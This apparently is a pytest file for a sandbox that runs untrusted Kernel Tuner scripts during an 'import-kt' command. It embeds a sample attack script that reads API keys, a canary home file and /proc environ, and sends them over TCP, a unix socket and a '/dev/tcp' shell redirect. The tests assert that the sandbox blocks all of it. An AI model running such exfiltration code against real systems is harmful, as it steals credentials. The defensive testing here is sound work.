"""A colleague's Kernel Tuner script is untrusted: `kernelswarm import-kt` runs it in a sandbox
cell. The attack script reads the API key and a canary file in the (fake) home, sends them to a
loopback TCP port and a unix socket the test listens on, and hides them in the kernel it hands
to tune_kernel; the ground truth is checked outside the tool: nothing reaches the listeners,
inotify sees no open of the canary, the written goal holds neither. The script's honest part
still imports."""

from __future__ import annotations

import ctypes
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
from pathlib import Path

import pytest
from project_paths import ROOT

from app.cli import main

KEY = "sk-canary-7f3a9c1e5b2d4a60"
CANARY = "CANARY-home-file-41c7"

# the script's honest part: a C vector_add, tuned over a block size, with its answer
KERNEL = '''
KERNEL = """
void vector_add(float *c, const float *a, const float *b, int n) {
    for (int i = 0; i < n; i++) c[i] = a[i] + b[i];
}
"""
'''
TUNE = '''
size = 1000
a = np.random.randn(size).astype(np.float32)
b = np.random.randn(size).astype(np.float32)
c = np.zeros_like(b)
tune_kernel("vector_add", kernel, size, [c, a, b, np.int32(size)], OrderedDict(block=[1, 2]),
            lang="C", answer=[a + b, None, None, None])
'''
IMPORTS = '''
from collections import OrderedDict
import numpy as np
from kernel_tuner import tune_kernel
'''
ATTACK = IMPORTS + KERNEL + '''
import os, socket, subprocess

loot = os.environ.get("KERNELSWARM_LLM_API_KEY", "") + os.environ.get("OPENAI_API_KEY", "")
for path in (CANARY_PATH, "/proc/%d/environ" % os.getppid()):
    try:
        loot += open(path, errors="replace").read()
    except Exception as exc:
        loot += " " + type(exc).__name__
for family, address in ((socket.AF_INET, ("127.0.0.1", PORT)), (socket.AF_UNIX, UNIX_PATH)):
    try:
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(2)
        s.connect(address)
        s.sendall(loot.encode())
        s.close()
    except Exception:
        pass
try:
    subprocess.run(["/bin/sh", "-c", "cat " + CANARY_PATH + " > /dev/tcp/127.0.0.1/" + str(PORT)],
                   timeout=5)
except Exception:
    pass
kernel = "/* " + loot.replace("*/", "") + " */\\n" + KERNEL
''' + TUNE

IN_OPEN, IN_ACCESS = 0x20, 0x01


class _Listener:
    """Accepts connections on a socket and keeps every byte sent to it."""

    def __init__(self, sock: socket.socket) -> None:
        self.sock, self.received = sock, b""
        sock.listen(4)
        sock.settimeout(0.2)
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            conn.settimeout(2)
            try:
                while chunk := conn.recv(65536):
                    self.received += chunk
            except OSError:
                pass
            conn.close()

    def close(self) -> bytes:
        self.stop.set()
        self.thread.join(5)
        self.sock.close()
        return self.received


def _watch(path: Path) -> int:
    """An inotify descriptor reporting every open or read of `path` (outside the tool)."""
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.inotify_init1(os.O_NONBLOCK)
    assert fd >= 0 and libc.inotify_add_watch(fd, str(path).encode(), IN_OPEN | IN_ACCESS) >= 0
    return fd


def _events(fd: int) -> bytes:
    try:
        return os.read(fd, 4096)
    except BlockingIOError:
        return b""
    finally:
        os.close(fd)


def test_a_kt_script_reaches_no_key_no_home_file_and_no_port(tmp_path, monkeypatch, capsys):
    home = tmp_path / "home"
    (home / ".config").mkdir(parents=True)
    canary = home / ".config" / "secret.txt"
    canary.write_text(CANARY)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("KERNELSWARM_LLM_API_KEY", KEY)
    tcp = _Listener(socket.create_server(("127.0.0.1", 0)))
    unix_path = str(tmp_path / "agent.sock")
    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    unix.bind(unix_path)
    unix_listener = _Listener(unix)
    colleague = tmp_path / "colleague"
    colleague.mkdir()
    script = colleague / "tune.py"
    script.write_text(ATTACK.replace("CANARY_PATH", repr(str(canary)))
                      .replace("UNIX_PATH", repr(unix_path))
                      .replace("PORT", str(tcp.sock.getsockname()[1])))
    watch = _watch(canary)
    try:
        rc = main(["import-kt", str(script), "-o", str(tmp_path / "goal")])
    finally:
        sent = tcp.close() + unix_listener.close()
        opened = _events(watch)
    _, err = capsys.readouterr()
    assert sent == b"", f"the script sent {sent[:200]!r} to a loopback listener"
    assert opened == b"", "the script opened the canary file in the home"
    assert rc == 0, err  # the honest part still imports
    written = "".join(p.read_text(errors="replace") for p in (tmp_path / "goal").glob("*.[ct]*"))
    assert "vector_add" in written
    assert KEY not in written and KEY[-8:] not in written and CANARY not in written


def test_without_a_cell_the_import_asks_first(tmp_path, monkeypatch, capsys):
    """Where the platform cannot build the cell, the script does not run unless the user
    passes --trust-script; then the CLI says plainly that it runs with the user's rights."""
    from app.kt_import import cell

    monkeypatch.setattr(cell, "missing_walls", lambda: ["files off: Landlock is not available"])
    script = tmp_path / "tune.py"
    marker = tmp_path / "ran"
    script.write_text(f"open({str(marker)!r}, 'w').close()\n")
    assert main(["import-kt", str(script), "-o", str(tmp_path / "goal")]) == 1
    _, err = capsys.readouterr()
    assert "--trust-script" in err and "your rights" in err and err.count("\n") == 1, err
    assert not marker.exists()
    assert main(["import-kt", str(script), "--trust-script", "-o", str(tmp_path / "goal")]) == 1
    _, err = capsys.readouterr()
    assert marker.exists() and "runs" in err and "with your rights" in err
    assert "never called kernel_tuner.tune_kernel" in err


def test_a_script_reading_outside_its_directory_is_told_why(tmp_path, capsys):
    """In the cell the script reads its own directory (besides the system and Python): a
    kernel file elsewhere is refused in one line that says so and names --trust-script."""
    (tmp_path / "kernels").mkdir()
    (tmp_path / "kernels" / "k.c").write_text("void k(float *x) {}\n")
    (tmp_path / "tuning").mkdir()
    script = tmp_path / "tuning" / "tune.py"
    script.write_text("open('../kernels/k.c').read()\n")
    rc = main(["import-kt", str(script), "-o", str(tmp_path / "goal")])
    _, err = capsys.readouterr()
    assert rc == 1 and err.count("\n") == 1, err
    assert "FileNotFoundError" in err and "own directory" in err and "--trust-script" in err


HONEST = IMPORTS + KERNEL + "kernel = KERNEL\n" + TUNE


@pytest.mark.skipif(os.getuid() != 0 or not shutil.which("setpriv"),
                    reason="drops from root to nobody; as any other user the tests above are it")
def test_a_user_who_is_not_root_gets_the_cell_too():
    """A user namespace (the cell's network wall without root) needs a single-threaded
    process. The cell's entry once imported numpy first (OpenBLAS threads), so for anyone but
    root the cell had no network wall and every import was refused. Run as nobody.
    (The cell's entry alone: test_sandbox's single-threaded test.)"""
    nobody = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
    child = "import subprocess, sys; subprocess.run([sys.executable, '-c', 'import app'], check=True)"
    here = subprocess.run([*nobody, sys.executable, "-c", child], cwd=ROOT,
                          capture_output=True, text=True, timeout=60, check=False)
    if here.returncode != 0:  # e.g. an interpreter under /root
        pytest.skip(f"nobody cannot start this interpreter: {here.stderr.strip()[-160:]}")
    work = Path(tempfile.mkdtemp(prefix="kernelswarm-kt-nobody-"))
    try:
        work.chmod(0o777)
        script = work / "tune.py"
        script.write_text(HONEST)
        script.chmod(0o644)
        out = subprocess.run(
            [*nobody, sys.executable, "-m", "app", "import-kt", str(script), "-o", str(work / "goal")],
            cwd=ROOT, capture_output=True, text=True, timeout=180, check=False,
            env={"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(work)})
        assert out.returncode == 0, out.stderr
        assert "vector_add" in (work / "goal" / "goal.toml").read_text()
    finally:
        shutil.rmtree(work, ignore_errors=True)
